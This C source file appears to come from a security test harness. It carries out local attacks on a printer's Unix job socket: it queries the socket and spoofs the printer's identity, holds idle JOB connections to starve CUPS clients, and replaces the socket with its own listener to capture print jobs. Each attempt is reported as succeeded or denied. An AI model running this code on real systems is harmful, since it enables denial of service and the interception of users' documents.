/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The attacks on the victim printer's job socket: query it (and answer with its identity from
 * then on), hold idle JOB connections on it (starving its other clients), and replace it with a
 * listener of our own (receiving the jobs meant for it). */
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "job.h"

enum {
        QUERY_TIMEOUT_MSEC = 3000,
        /* As many idle clients as the issue found enough to block CUPS. */
        IDLE_CONNECTIONS = 16,
        MSEC_PER_SEC = 1000,
        NSEC_PER_MSEC = 1000 * 1000,
};

static long now_msec(void)
{
        struct timespec ts;

        clock_gettime(CLOCK_MONOTONIC, &ts);
        return ts.tv_sec * MSEC_PER_SEC + ts.tv_nsec / NSEC_PER_MSEC;
}

static int fill_address(struct sockaddr_un *sa, const char *path)
{
        *sa = (struct sockaddr_un){.sun_family = AF_UNIX};
        if (strlen(path) >= sizeof(sa->sun_path))
                return -ENAMETOOLONG;
        strcpy(sa->sun_path, path);
        return 0;
}

/* Connects without blocking on a full backlog. Returns the fd or -errno. */
static int connect_to(const char *path)
{
        struct sockaddr_un sa;
        int fd, r = fill_address(&sa, path);

        if (r < 0)
                return r;
        fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (fd < 0)
                return -errno;
        if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
                r = -errno;
                close(fd);
                return r;
        }
        return fd;
}

/* Reads exactly n bytes before the absolute deadline. */
static int read_until(int fd, uint8_t *buf, size_t n, long deadline)
{
        size_t got = 0;

        while (got < n) {
                struct pollfd pfd = {.fd = fd, .events = POLLIN};
                long left = deadline - now_msec();
                ssize_t k;

                if (left <= 0 || poll(&pfd, 1, (int)left) <= 0)
                        return -ETIMEDOUT;
                k = read(fd, buf + got, n - got);
                if (k == 0)
                        return -ECONNRESET;
                if (k < 0 && errno != EAGAIN)
                        return -errno;
                if (k > 0)
                        got += (size_t)k;
        }
        return 0;
}

/* QUERY on the victim's socket; the INFO payload goes to info. Returns its length or -errno. */
static int query(const char *path, char *info, size_t size)
{
        uint8_t frame[FRAME_HEADER_SIZE + QUERY_PAYLOAD_SIZE], header[FRAME_HEADER_SIZE];
        long deadline = now_msec() + QUERY_TIMEOUT_MSEC;
        size_t n = frame_query(frame);
        uint32_t length;
        int fd, r;

        fd = connect_to(path);
        if (fd < 0)
                return fd;
        r = send(fd, frame, n, MSG_NOSIGNAL) == (ssize_t)n ? 0 : -EIO;
        r = r ?: read_until(fd, header, sizeof(header), deadline);
        if (r >= 0) {
                length = get_be32(header + 4);
                if (get_be16(header) != FRAME_INFO || length >= size)
                        r = -EBADMSG;
                else
                        r = read_until(fd, (uint8_t *)info, length, deadline);
        }
        close(fd);
        return r < 0 ? r : (int)length;
}

/* When the victim cannot be asked, its identity as the victims file tells it (what lpinfo shows). */
static void identity_from_victims(JobServer *s)
{
        const Victims *v = job_server_victims(s);
        char info[INFO_MAX];
        int n;

        n = snprintf(
            info, sizeof(info),
            "DEVICE_ID=%s\nPORT_STATUS=0x18\nSTATUS=ready\nINSTANCE=%s\nUNIT=%s\nDEVICE=%s\n"
            "USB_ID=%s\nUSB_SERIAL=%s\nBIDIRECTIONAL=yes\nBUSY=no\n",
            victims_get(v, VICTIM_PRINTER, "DEVICE_ID") ?: "",
            victims_get(v, VICTIM_PRINTER, "INSTANCE") ?: "", victims_get(v, VICTIM_PRINTER, "UNIT") ?: "",
            victims_get(v, VICTIM_PRINTER, "DEVICE") ?: "", victims_get(v, VICTIM_PRINTER, "USB_ID") ?: "",
            victims_get(v, VICTIM_PRINTER, "SERIAL") ?: "");
        if (n > 0 && (size_t)n < sizeof(info))
                job_server_set_identity(s, info, (size_t)n);
}

static void hold_idle(JobServer *s, const char *path)
{
        static const char attempt[] = "hold idle JOB connections on printer's job socket";
        uint8_t frame[FRAME_HEADER_SIZE + JOB_PAYLOAD_SIZE];
        size_t n = frame_job(frame);
        int held = 0, error = 0;
        char detail[DETAIL_MAX];

        for (int i = 0; i < IDLE_CONNECTIONS; i++) {
                int fd = connect_to(path);

                if (fd < 0) {
                        error = -fd;
                        break; /* refused, or its backlog is full */
                }
                if (send(fd, frame, n, MSG_NOSIGNAL) != (ssize_t)n) {
                        error = errno;
                        close(fd);
                        break;
                }
                /* A JOB frame, then nothing: the driver queues it and waits for its data. */
                job_server_hold(s, fd);
                held++;
        }
        (void)snprintf(detail, sizeof(detail), "%d connections each sent JOB and then nothing", held);
        if (held > 0)
                report_succeeded(attempt, detail);
        else
                report_denied_because(attempt, errno_name(error));
}

static void replace_socket(JobServer *s, const char *path)
{
        static const char attempt[] = "replace printer's job socket with its own listener";
        struct sockaddr_un sa;
        int fd, r = fill_address(&sa, path);

        if (r >= 0 && unlink(path) < 0)
                r = -errno;
        if (r < 0) {
                report_denied_because(attempt, errno_name(-r));
                return;
        }
        fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, LISTEN_BACKLOG) < 0) {
                report_denied_because(attempt, errno_name(errno));
                if (fd >= 0)
                        close(fd);
                return;
        }
        (void)chmod(path, SOCKET_MODE);
        job_server_add_listener(s, fd, "printer's socket path");
        report_succeeded(attempt, path);
}

void attack_job_socket(JobServer *s)
{
        const char *path = victims_get(job_server_victims(s), VICTIM_PRINTER, "SOCKET");
        char info[INFO_MAX], detail[DETAIL_MAX];
        int n;

        if (!path) {
                report_info("no PRINTER_SOCKET in the victims file: its job socket is not attacked");
                identity_from_victims(s);
                return;
        }
        n = query(path, info, sizeof(info));
        (void)snprintf(detail, sizeof(detail), "%s answered QUERY with %d bytes", path, n);
        report_result("connect to printer's job socket and query it", n, detail);
        if (n > 0)
                job_server_set_identity(s, info, (size_t)n);
        else
                identity_from_victims(s);
        hold_idle(s, path);
        replace_socket(s, path);
}
